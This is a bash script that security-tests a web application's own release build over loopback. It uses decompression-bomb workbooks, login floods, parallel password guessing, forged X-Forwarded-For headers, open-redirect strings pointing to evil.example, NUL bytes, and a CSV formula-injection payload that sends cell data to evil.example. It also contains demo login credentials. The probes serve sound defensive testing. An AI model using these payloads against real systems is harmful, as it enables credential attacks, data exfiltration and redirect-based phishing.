#!/usr/bin/env bash
# Tries the security findings on the release binary from outside, as an attacker would, over
# loopback only: hostile workbooks, a flood of logins (peak memory from /proc), parallel
# password guessing, forged X-Forwarded-For, redirects after login, NUL bytes, formula
# injection into a CSV export. Prints one line per probe and exits 1 if any failed.
#
#   bench/security-probe.sh                        # SQLite in a scratch folder
#   bench/security-probe.sh postgres://…/db        # an empty PostgreSQL database
set -uo pipefail
cd "$(dirname "$0")/.."
root=$(pwd)
work=$(mktemp -d /tmp/chiso-probe.XXXXXX)
port=$((20000 + RANDOM % 20000))
base="http://127.0.0.1:$port"
database=${1:-sqlite://$work/chiso.db}
failures=0

cargo build -q --release -p chiso
cargo run -q --release -p chiso-interchange --example hostile_files --features test-support -- "$work/files" >/dev/null

(cd "$work" && CHISO_TRUSTED_PROXIES=1 RUST_LOG=warn \
  "$root/target/release/chiso" serve --bind "127.0.0.1:$port" --database-url "$database" \
  >"$work/server.log" 2>&1) &
disown
for _ in $(seq 1 120); do curl -sf "$base/healthz" >/dev/null && break; sleep 0.5; done
pid=$(pgrep -f "chiso serve --bind 127.0.0.1:$port" | head -1)
trap 'kill $pid 2>/dev/null; rm -rf "$work"' EXIT

report() { # name, ok (0/1), detail
  if [ "$2" = 0 ]; then printf 'PASS  %-48s %s\n' "$1" "$3"; else printf 'FAIL  %-48s %s\n' "$1" "$3"; failures=$((failures + 1)); fi
}
token_of() { grep -o 'name="_csrf" value="[^"]*"' "$1" | head -1 | sed 's/.*value="//;s/"$//'; }
# login JAR USER PASSWORD [EXTRA_CURL_ARGS…] → prints the status
login() {
  local jar=$1 user=$2 password=$3; shift 3
  curl -s -c "$jar" -b "$jar" "$base/dang-nhap" -o "$jar.html"
  curl -s -c "$jar" -b "$jar" -o /dev/null -w '%{http_code}' "$@" \
    --data-urlencode "_csrf=$(token_of "$jar.html")" --data-urlencode "username=$user" \
    --data-urlencode "password=$password" "$base/dang-nhap"
}
staff_token() { curl -s -b "$1" "$base/doi-mat-khau" -o "$1.page"; token_of "$1.page"; }
peak_mib() { awk '/VmHWM/ {print int($2 / 1024)}' "/proc/$pid/status"; }

# 1. Hostile workbooks on the units import, /healthz timed meanwhile.
jar=$work/staff; login "$jar" thuongtruc chiso-demo-2026 >/dev/null; csrf=$(staff_token "$jar")
for f in dense-range.xlsx bomb.xlsx wide-header.csv wide-header.xlsx; do
  ( sleep 0.3; curl -s -o /dev/null -w '%{time_total}' "$base/healthz" >"$work/health.$f" ) &
  probe=$!
  status=$(curl -s -b "$jar" -o "$work/out.$f" -w '%{http_code}' -F "_csrf=$csrf" -F "file=@$work/files/$f" "$base/don-vi/nhap")
  wait "$probe"
  alive=$(curl -s -o /dev/null -w '%{http_code}' "$base/healthz")
  vietnamese=$(grep -c 'giới hạn\|vượt' "$work/out.$f")
  report "units import ← $f" "$([ "$status" = 422 ] && [ "$alive" = 200 ] && [ "$vietnamese" -gt 0 ]; echo $?)" \
    "HTTP $status, /healthz during the upload $(cat "$work/health.$f") s"
done

# 2. 200 simultaneous anonymous logins from 200 addresses (behind the one trusted proxy, so
#    the per-address limit does not stop them before the password check): peak memory.
before=$(peak_mib)
curl -s -c "$work/anon" "$base/dang-nhap" -o "$work/anon.html"; anon=$(token_of "$work/anon.html")
seq 1 200 | xargs -P 200 -I{} curl -s -o /dev/null -w '%{http_code}\n' -b "$work/anon" \
  -H "X-Forwarded-For: 10.200.0.{}" --data-urlencode "_csrf=$anon" --data-urlencode "username=khong-co-{}" --data-urlencode "password=x" \
  "$base/dang-nhap" >"$work/flood" 2>/dev/null
peak=$(peak_mib)
report "200 simultaneous logins" "$([ "$peak" -lt 300 ]; echo $?)" \
  "peak RSS $peak MiB (before $before); answers: $(sort "$work/flood" | uniq -c | tr -s ' \n' ' ')"

# 3. 50 parallel wrong passwords from 50 addresses, then the right one.
curl -s -c "$work/guess" "$base/dang-nhap" -o "$work/guess.html"; guess=$(token_of "$work/guess.html")
seq 1 50 | xargs -P 50 -I{} curl -s -o /dev/null -w '%{http_code}\n' -b "$work/guess" \
  -H "X-Forwarded-For: 10.201.0.{}" --data-urlencode "_csrf=$guess" --data-urlencode "username=lanhdao" --data-urlencode "password=sai-{}" \
  "$base/dang-nhap" >"$work/guesses"
right=$(login "$work/right" lanhdao chiso-demo-2026)
through=$(grep -c '^303' "$work/guesses")
report "50 parallel guesses lock the account" "$([ "$through" = 0 ] && [ "$right" = 401 ]; echo $?)" \
  "guesses let in: $through; the right password afterwards: HTTP $right"

# 4. Forged X-Forwarded-For hops (one trusted proxy): the real hop is limited.
for i in $(seq 1 30); do login "$work/xff$i" "ai-do-$i" sai -H "X-Forwarded-For: 198.51.100.$i, 203.0.113.77" >/dev/null; done
limited=$(login "$work/xff" admin chiso-demo-2026 -H "X-Forwarded-For: 6.6.6.6, 203.0.113.77")
report "forged X-Forwarded-For keeps the limit" "$([ "$limited" = 429 ]; echo $?)" "31st attempt: HTTP $limited"

# 5. Redirects after login.
jar=$work/viewer; login "$jar" xemketqua chiso-demo-2026 >/dev/null
for next in '/%09/evil.example' '/%0A/evil.example' '/%7F' '/%5Cevil.example' '//evil.example'; do
  target=$(curl -s -b "$jar" -o /dev/null -w '%{redirect_url}' "$base/dang-nhap?next=$next")
  report "next=$next" "$([ "$target" = "$base/" ]; echo $?)" "→ $target"
done

# 6. NUL bytes, anonymous.
status=$(curl -s -o /dev/null -w '%{http_code}' "$base/ks/%00")
report "GET /ks/%00" "$([ "$status" -ge 400 ] && [ "$status" -lt 500 ]; echo $?)" "HTTP $status"
status=$(login "$work/nul" $'ad\x01min' x)
report "login username with a control character" "$([ "$status" -ge 400 ] && [ "$status" -lt 500 ]; echo $?)" "HTTP $status"

# 7. A formula typed into an extension reason, then the campaign's audit CSV.
jar=$work/staff; csrf=$(staff_token "$jar")
curl -s -b "$jar" "$base/dot-danh-gia" -o "$work/campaigns"
campaign=$(grep -o 'href="/dot-danh-gia/[0-9]*"' "$work/campaigns" | head -1 | grep -o '[0-9]*')
curl -s -b "$jar" -o /dev/null --data-urlencode "_csrf=$csrf" --data-urlencode "unit_id=3" \
  --data-urlencode "stage=self_assessment" --data-urlencode "until=2099-01-01" \
  --data-urlencode 'reason==HYPERLINK("http://evil.example/?x="&A1,"Bấm")' "$base/dot-danh-gia/$campaign/gia-han"
curl -s -b "$jar" "$base/dot-danh-gia/$campaign/nhat-ky.csv" -o "$work/audit.csv"
raw=$(grep -c ',=HYPERLINK\|,"=HYPERLINK' "$work/audit.csv"); safe=$(grep -c "'=HYPERLINK" "$work/audit.csv")
report "formula in the campaign audit CSV" "$([ "$raw" = 0 ] && [ "$safe" -gt 0 ]; echo $?)" "raw: $raw, neutralised: $safe"

echo "server: $(curl -s "$base/healthz"), peak RSS $(peak_mib) MiB, database $database"
[ "$failures" = 0 ]
